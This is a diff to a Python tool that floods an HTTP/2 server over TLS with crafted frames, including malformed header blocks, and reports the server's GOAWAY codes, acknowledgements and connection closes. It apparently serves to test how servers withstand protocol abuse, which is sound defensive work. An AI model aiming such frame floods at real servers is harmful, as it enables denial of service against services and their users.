@@ -7,11 +7,11 @@ SETTINGS that it answered}.
 """
 
 import json
-import os
+import select
 import socket
 import ssl
 import sys
-import threading
+import time
 
 from hpack import Encoder
 from hyperframe.frame import (
@@ -38,7 +38,6 @@ link = context.wrap_socket(
 assert link.selected_alpn_protocol() == "h2", "the server does not speak HTTP/2"
 
 told = {"sent": 0, "goaway": None, "closed": False, "acks": 0}
-settled = threading.Event()
 encoder = Encoder()
 # Nothing in the dynamic table: every block stands for itself.
 encoder.header_table_size = 0
@@ -51,37 +50,48 @@ def block(path="/", method="GET", more=()):
     )
 
 
-def listen():
-    """Reads until the server closes, and tells what it said."""
-    buffer = b""
+def read():
+    """All that has come by now."""
+    data = b""
     try:
-        while True:
-            data = link.recv(65536)
-            if not data:
-                break
-            buffer += data
-            while len(buffer) >= 9:
-                frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
-                if len(buffer) < 9 + length:
-                    break
-                frame.parse_body(memoryview(buffer[9 : 9 + length]))
-                buffer = buffer[9 + length :]
-                hear(frame)
-    except OSError:
+        while some := link.recv(65536):
+            data += some
+        told["closed"] = True
+    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
         pass
-    told["closed"] = True
-    settled.set()
+    except OSError:
+        told["closed"] = True
+    return data
 
 
-def hear(frame):
-    if isinstance(frame, GoAwayFrame):
-        told["goaway"] = frame.error_code
-        if frame.error_code:
-            settled.set()
-    elif isinstance(frame, (PingFrame, SettingsFrame)) and "ACK" in frame.flags:
-        told["acks"] += 1
-        if told["acks"] >= given["count"]:
-            settled.set()
+def hear(heard):
+    """Takes the frames off what was heard; the rest."""
+    while len(heard) >= 9:
+        frame, length = Frame.parse_frame_header(memoryview(heard[:9]))
+        if len(heard) < 9 + length:
+            break
+        frame.parse_body(memoryview(heard[9 : 9 + length]))
+        heard = heard[9 + length :]
+        if isinstance(frame, GoAwayFrame):
+            told["goaway"] = frame.error_code
+        elif isinstance(frame, (PingFrame, SettingsFrame)) and "ACK" in frame.flags:
+            told["acks"] += 1
+    return heard
+
+
+def write(batch):
+    """Writes as much as goes; the rest."""
+    try:
+        return batch[link.send(batch) :]
+    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+        return batch
+    except OSError:
+        # What the server said before it closed can still be read.
+        return None
+
+
+def is_settled():
+    return told["closed"] or told["goaway"] or told["acks"] >= given["count"]
 
 
 def headers(stream, data, *flags):
@@ -164,22 +174,30 @@ def malformed():
         yield headers(stream, block("/", "GET", more), "END_HEADERS", "END_STREAM")
 
 
-listener = threading.Thread(target=listen, daemon=True)
-listener.start()
-try:
-    link.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
-    batch = b""
+def attack():
+    """The frames in batches of about a record, so that none waits for a packet of its own."""
+    batch = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
     for frame in globals()[given["attack"]]():
         told["sent"] += 1
         batch += frame
         if len(batch) > 16384:
-            link.sendall(batch)
+            yield batch
             batch = b""
-        if settled.is_set():
-            break
-    link.sendall(batch)
-except OSError:
-    pass
-settled.wait(given.get("hold", 10))
+    yield batch
+
+
+# One thread: a TLS connection is not to be read and written at the same time by two.
+link.setblocking(False)
+batches, batch, heard = attack(), b"", b""
+until = None
+while not is_settled() and (until is None or time.monotonic() < until):
+    if batch == b"":
+        batch = next(batches, None)
+    if batch is None and until is None:
+        until = time.monotonic() + given.get("hold", 10)
+    if batch:
+        batch = write(batch)
+    heard = hear(heard + read())
+    if not is_settled():
+        select.select([link], [] if batch is None else [link], [], 0.1)
 print(json.dumps(told), flush=True)
-os._exit(0)
